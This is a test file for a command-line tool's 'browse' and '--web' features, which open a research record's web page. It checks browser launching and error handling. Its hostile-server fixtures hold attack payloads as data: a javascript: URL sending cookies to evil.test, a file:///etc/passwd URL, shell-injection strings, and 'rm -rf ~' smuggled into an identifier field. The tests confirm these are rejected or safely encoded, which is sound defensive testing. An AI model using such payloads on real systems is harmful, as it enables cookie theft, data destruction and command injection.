/**
 * `pep browse` and `--web`: a record's page opened with the browser the user chose (or
 * the platform's opener), or its address printed off a terminal and with --no-browser.
 * In process with the program that opens pages replaced by a recorder; against a hostile
 * loopback server for what the API may send; and once for real, spawned on a terminal
 * with BROWSER set to a script that writes down its arguments.
 */
import { chmodSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { run } from "../../src/cli/main.js";
import { testIO, type Launch } from "../../src/core/io.js";
import { isBuilt, scratch } from "../helpers/cli.js";
import { useSandboxCli } from "../helpers/sandbox-cli.js";
import { delay, envelope, sendJson, startServer, type TestServer } from "../helpers/server.js";
import { hasScript, onTerminal } from "../helpers/terminal.js";

const cli = useSandboxCli();
const KEY = { PEP_API_KEY: "sbx_full_key" };
const PEPTIDE = "brevritarin-81";
const VENDOR = "vnd_9a826af2";
const VENDOR_PAGE = "https://research.example/vendors/neskax-research-materials";

interface Opened {
  code: number;
  out: string;
  err: string;
  launched: string[][];
}

/** `pep <argv>` in process, on a terminal or not, with launches recorded (and started, or failed with `fail`). */
async function browse(
  argv: readonly string[],
  o: { tty?: boolean; env?: Record<string, string>; platform?: string; fail?: string; baseUrl?: string } = {},
): Promise<Opened> {
  const io = testIO({
    tty: o.tty ?? true,
    env: { PEP_CONFIG_DIR: `${cli.dir}/c`, PEP_CACHE_DIR: `${cli.dir}/k`, DISPLAY: ":0", ...o.env },
  });
  io.platform = o.platform ?? "linux";
  const launched: string[][] = [];
  const launch = async (args: readonly string[]): Promise<Launch> => {
    launched.push([...args]);
    return o.fail ? { started: false, reason: o.fail } : { started: true };
  };
  const code = await run([...argv, "--base-url", o.baseUrl ?? cli.baseUrl], { io, launch });
  return { code, out: io.out(), err: io.err(), launched };
}

describe("pep browse: which page", () => {
  it("tells the kind from the id and prints the page off a terminal, opening nothing", async () => {
    const cases: [string, string][] = [
      [PEPTIDE, `https://research.example/peptides/${PEPTIDE}`],
      // Sandbox identifiers do not exist: the record's own page, never PubMed, doi.org or the registry.
      ["pmid-90001067", "https://research.example/studies/pmid-90001067"],
      ["90001067", "https://research.example/studies/pmid-90001067"],
      ["doi-10.5555--sbx.2022.00172", "https://research.example/studies/doi-10.5555--sbx.2022.00172"],
      ["NCT99000006", "https://research.example/studies/nct-NCT99000006"],
      [VENDOR, VENDOR_PAGE],
    ];
    for (const [id, page] of cases) {
      const r = await browse(["browse", id], { tty: false, env: KEY });
      expect(r.code, `${id}: ${r.err}`).toBe(0);
      expect(r.out, id).toBe(`${page}\n`);
      expect(r.launched, id).toEqual([]);
    }
  });

  it("a kind named first: a vendor's slug, the group words too", async () => {
    const v = await browse(["browse", "vendor", "neskax-research-materials", "--no-browser"], { env: KEY });
    expect(v.out).toBe(`${VENDOR_PAGE}\n`);
    const s = await browse(["browse", "studies", "90001067", "--no-browser"]);
    expect(s.out).toBe("https://research.example/studies/pmid-90001067\n");
    const p = await browse(["browse", "Peptide", PEPTIDE, "--no-browser"]);
    expect(p.out).toBe(`https://research.example/peptides/${PEPTIDE}\n`);
  });

  it("a slug that is not a peptide is exit 4 with the vendor form as a hint; a bad kind is exit 2, nothing sent", async () => {
    const r = await browse(["browse", "neskax-research-materials"], { env: KEY });
    expect(r.code).toBe(4);
    expect(r.err).toContain(
      'hint: "neskax-research-materials" was looked up as a peptide; for a vendor\'s slug: pep browse vendor neskax-research-materials',
    );
    expect(r.launched).toEqual([]);
    const before = cli.requestCount();
    const bad = await browse(["browse", "vendr", "x"]);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain("hint: Did you mean `vendor`? (`pep browse vendor x`)");
    const badStudy = await browse(["browse", "study", "not-a-study"]);
    expect(badStudy.code).toBe(2);
    expect(badStudy.err).toContain('<id> "not-a-study" is not a study id');
    expect(cli.requestCount()).toBe(before);
  });

  it("an offer id (the first column of pep prices) says where its pages are: exit 2, nothing sent", async () => {
    const before = cli.requestCount();
    const r = await browse(["browse", "off_000056"], { env: KEY });
    expect(r.code).toBe(2);
    expect(r.err).toContain('"off_000056" is an offer: the API has no page for one offer');
    expect(r.err).toContain("pep prices --fields id,product_page_url");
    expect(r.err).toContain("pep browse <VENDOR ID>");
    expect(r.launched).toEqual([]);
    expect(cli.requestCount()).toBe(before);
  });

  it("a vendor needs a key: exit 3 before any request", async () => {
    const before = cli.requestCount();
    const r = await browse(["browse", VENDOR]);
    expect(r.code).toBe(3);
    expect(cli.requestCount()).toBe(before);
  });
});

describe("pep browse: how it is opened", () => {
  it("BROWSER is a command with arguments; the address is added last, or put where %s is", async () => {
    const page = `https://research.example/peptides/${PEPTIDE}`;
    const r = await browse(["browse", PEPTIDE], { env: { BROWSER: "my-browser --new-tab 'a b'" } });
    expect(r.code, r.err).toBe(0);
    expect(r.launched).toEqual([["my-browser", "--new-tab", "a b", page]]);
    expect(r.out).toBe("");
    expect(r.err).toContain(`Opening ${page} in your browser.`);
    const placed = await browse(["browse", PEPTIDE], { env: { BROWSER: "open-it --url=%s --raise" } });
    expect(placed.launched).toEqual([["open-it", `--url=${page}`, "--raise"]]);
    const own = await browse(["browse", PEPTIDE, "-q"], { env: { BROWSER: "b1", PEP_BROWSER: "b2" } });
    expect(own.launched).toEqual([["b2", page]]);
    expect(own.err).not.toContain("Opening");
  });

  it("the platform's opener without BROWSER: xdg-open, open, rundll32 (never cmd, which reads & and |)", async () => {
    const page = "https://research.example/studies/pmid-90001067";
    for (const [platform, argv] of [
      ["linux", ["xdg-open", page]],
      ["darwin", ["open", page]],
      ["win32", ["rundll32", "url.dll,FileProtocolHandler", page]],
      ["freebsd", ["xdg-open", page]],
    ] as const) {
      const r = await browse(["browse", "pmid-90001067"], { platform });
      expect(r.launched, platform).toEqual([argv]);
    }
  });

  it("no display, or an opener that cannot start: the address on stdout, and why on stderr, exit 0", async () => {
    const page = `https://research.example/peptides/${PEPTIDE}`;
    const headless = await browse(["browse", PEPTIDE], { env: { DISPLAY: "" } });
    expect(headless.code).toBe(0);
    expect(headless.launched).toEqual([]);
    expect(headless.out).toBe(`${page}\n`);
    expect(headless.err).toMatch(/^cannot open a browser: there is no graphical display here .*printed instead\.$/m);
    const missing = await browse(["browse", PEPTIDE], { fail: "ENOENT" });
    expect(missing.launched).toEqual([["xdg-open", page]]);
    expect(missing.out).toBe(`${page}\n`);
    expect(missing.err).toContain("cannot open a browser: xdg-open could not be started (ENOENT)");
    const unclosed = await browse(["browse", PEPTIDE], { env: { BROWSER: "firefox 'x" } });
    expect(unclosed.launched).toEqual([]);
    expect(unclosed.out).toBe(`${page}\n`);
    expect(unclosed.err).toContain("BROWSER is not a command pep can run");
  });

  it("--no-browser prints on a terminal too", async () => {
    const r = await browse(["browse", PEPTIDE, "--no-browser"]);
    expect(r.out).toBe(`https://research.example/peptides/${PEPTIDE}\n`);
    expect(r.launched).toEqual([]);
  });
});

describe("--web on get commands", () => {
  it("peptides get, studies get and vendors get open the same page browse does", async () => {
    const p = await browse(["peptides", "get", PEPTIDE, "--web"]);
    expect(p.launched).toEqual([["xdg-open", `https://research.example/peptides/${PEPTIDE}`]]);
    const s = await browse(["studies", "get", "https://doi.org/10.5555/sbx.2022.00172", "--web"]);
    expect(s.launched).toEqual([["xdg-open", "https://research.example/studies/doi-10.5555--sbx.2022.00172"]]);
    const v = await browse(["vendors", "get", VENDOR, "--web", "--no-browser"], { env: KEY });
    expect(v.out).toBe(`${VENDOR_PAGE}\n`);
    expect(v.launched).toEqual([]);
  });

  it("--web takes one id; --no-browser goes with --web; both exit 2 before any request", async () => {
    const before = cli.requestCount();
    const two = await browse(["studies", "get", "90001067", "90001068", "--web"]);
    expect(two.code).toBe(2);
    expect(two.err).toContain("error: --web opens one record's page: give one id (got 90001067 90001068)");
    const alone = await browse(["peptides", "get", PEPTIDE, "--no-browser"]);
    expect(alone.code).toBe(2);
    expect(alone.err).toContain("error: --no-browser goes with --web (or use pep browse)");
    expect(cli.requestCount()).toBe(before);
  });

  it("--jq or --file with an address to print is exit 2 before the request, for browse and --web alike", async () => {
    const before = cli.requestCount();
    const b = await browse(["browse", PEPTIDE, "--jq", "."]);
    expect(b.code).toBe(2);
    expect(b.err).toContain("error: --jq: pep browse prints a page's address here, not JSON");
    const web = await browse(["peptides", "get", PEPTIDE, "--web", "--jq", "."]);
    expect(web.code).toBe(2);
    expect(web.err).toContain("error: --jq: pep peptides get prints a page's address here, not JSON");
    const file = await browse(["browse", PEPTIDE, "--file", "page.json"]);
    expect(file.code).toBe(2);
    expect(file.err).toContain("error: --file: pep browse prints a page's address here, not data to export");
    expect(cli.requestCount()).toBe(before);
    // Without --web, the record is JSON for --jq as ever.
    const get = await browse(["peptides", "get", PEPTIDE, "--jq", ".id"]);
    expect(get.code, get.err).toBe(0);
    expect(get.out).toBe(`"${PEPTIDE}"\n`);
  });
});

/** A server whose records carry what an attacker would put in them. */
const HOSTILE: Record<string, Record<string, unknown>> = {
  script: { id: "script", url: "javascript:fetch('//evil.test/'+document.cookie)" },
  file: { id: "file", url: "file:///etc/passwd" },
  creds: { id: "creds", url: "https://pubmed.ncbi.nlm.nih.gov@evil.test/" },
  shell: { id: "shell", url: "https://ok.test/$(touch${IFS}pwned);`id`|sh&x='\x1b]8;;\x07\u202e" },
  none: { id: "none", name: "No page" },
};
const SHELL_PAGE = "https://ok.test/$(touch$%7BIFS%7Dpwned);%60id%60|sh&x='%1B]8;;%07%E2%80%AE";

function hostileServer(): Promise<TestServer> {
  return startServer((req, res) => {
    const peptide = /^\/v1\/peptides\/([^/]+)$/.exec(req.path);
    if (peptide && HOSTILE[peptide[1]!]) return sendJson(res, 200, envelope(HOSTILE[peptide[1]!]));
    // A real API's study (no meta.sandbox): its registry pages are built from its identifiers.
    const real = /^\/v1\/studies\/(pmid-33567185|doi-10\.1056--nejmoa2032183|nct-NCT03548935)$/i.exec(req.path);
    if (real) {
      const [, id] = real;
      const record: Record<string, unknown> = { id, url: `https://research.test/studies/${id}` };
      if (id!.startsWith("pmid")) record.pmid = "33567185";
      if (id!.startsWith("doi")) record.doi = "10.1056/NEJMoa2032183";
      if (id!.startsWith("nct")) record.nct_id = "NCT03548935";
      return sendJson(res, 200, envelope(record));
    }
    // The same identifiers marked as sandbox data: made up, so the record's own page.
    if (req.path === "/v1/studies/pmid-90000001")
      return sendJson(res, 200, {
        data: { id: "pmid-90000001", pmid: "90000001", url: "https://research.example/studies/pmid-90000001" },
        meta: { sandbox: true },
      });
    if (req.path === "/v1/studies/pmid-1")
      return sendJson(
        res,
        200,
        envelope({
          id: "pmid-1",
          pmid: "1; rm -rf ~",
          doi: "10.1000/x y",
          nct_id: "NCT1$(id)",
          source_url: "javascript:alert(1)",
          url: "https://ok.test/studies/pmid-1",
        }),
      );
    sendJson(res, 404, { error: { code: "not_found", message: "no such record", request_id: "req_1" } });
  });
}

describe("what a hostile API sends", () => {
  let srv: TestServer;
  beforeAll(async () => {
    srv = await hostileServer();
  });
  afterAll(async () => {
    await srv?.close();
  });
  const at = () => `${srv.url}/v1`;

  it("only http(s) addresses without credentials are opened; anything else is exit 4, naming it", async () => {
    for (const id of ["script", "file", "creds"]) {
      const r = await browse(["browse", id, "--no-cache"], { baseUrl: at() });
      expect(r.code, `${id}: ${r.err}`).toBe(4);
      expect(r.launched, id).toEqual([]);
      expect(r.out, id).toBe("");
      expect(r.err).toMatch(
        new RegExp(`^error: peptide ${id} has no page pep will open: url ".*" is not an http\\(s\\) address$`, "m"),
      );
    }
    const none = await browse(["browse", "none", "--no-cache", "-o", "json"], { baseUrl: at() });
    expect(none.code).toBe(4);
    expect(JSON.parse(none.err)).toMatchObject({ error: { code: "no_page" }, exit_code: 4 });
    expect(none.err).toContain("peptide none has no page: its record holds none of url");
  });

  it("shell syntax in an address is one argument, as the URL parser writes it: ASCII, no control characters", async () => {
    const r = await browse(["browse", "shell", "--no-cache"], { baseUrl: at(), env: { BROWSER: "recorder" } });
    expect(r.code, r.err).toBe(0);
    expect(r.launched).toEqual([["recorder", SHELL_PAGE]]);
    const printed = await browse(["browse", "shell", "--no-cache"], { baseUrl: at(), tty: false });
    expect(printed.out).toBe(`${SHELL_PAGE}\n`);
    expect(printed.out).not.toMatch(/[^\x20-\x7e\n]/);
  });

  it("a real API's study opens PubMed, doi.org or ClinicalTrials.gov; sandbox data its own record's page", async () => {
    const cases: [string, string][] = [
      ["33567185", "https://pubmed.ncbi.nlm.nih.gov/33567185/"],
      ["10.1056/NEJMoa2032183", "https://doi.org/10.1056/NEJMoa2032183"],
      ["NCT03548935", "https://clinicaltrials.gov/study/NCT03548935"],
      ["pmid-90000001", "https://research.example/studies/pmid-90000001"],
    ];
    for (const [id, page] of cases) {
      const r = await browse(["browse", id, "--no-cache"], { baseUrl: at(), tty: false });
      expect(r.code, `${id}: ${r.err}`).toBe(0);
      expect(r.out, id).toBe(`${page}\n`);
    }
  });

  it("a study's malformed identifiers are passed over for the next field that is a page", async () => {
    const r = await browse(["browse", "pmid-1", "--no-cache"], { baseUrl: at(), tty: false });
    expect(r.code, r.err).toBe(0);
    expect(r.out).toBe("https://ok.test/studies/pmid-1\n");
  });
});

describe.skipIf(!hasScript || !isBuilt())("the real executable on a terminal", () => {
  it("starts BROWSER detached, without a shell: the script gets the address as one argument", async () => {
    const srv = await hostileServer();
    const tmp = scratch("pep-browse-");
    try {
      const record = path.join(tmp.dir, "argv.json");
      const script = path.join(tmp.dir, "record-argv");
      writeFileSync(
        script,
        `#!${process.execPath}\nrequire("node:fs").writeFileSync(${JSON.stringify(record)}, JSON.stringify(process.argv.slice(2)));\n`,
      );
      chmodSync(script, 0o755);
      const r = await onTerminal(["browse", "shell", "--base-url", `${srv.url}/v1`, "--no-cache"], {
        ...tmp.env,
        BROWSER: `'${script}' --from-pep`,
      });
      expect(r.code, r.screen).toBe(0);
      expect(r.screen).toContain("in your browser.");
      for (let i = 0; i < 100 && !existsSync(record); i++) await delay(50);
      expect(JSON.parse(readFileSync(record, "utf8"))).toEqual(["--from-pep", SHELL_PAGE]);
      // Nothing in the address ran: no file made by `touch`, in the run's folder or the script's.
      expect(existsSync(path.join(tmp.dir, "pwned"))).toBe(false);
      expect(existsSync("pwned")).toBe(false);
    } finally {
      await srv.close();
      tmp.cleanup();
    }
  });
});
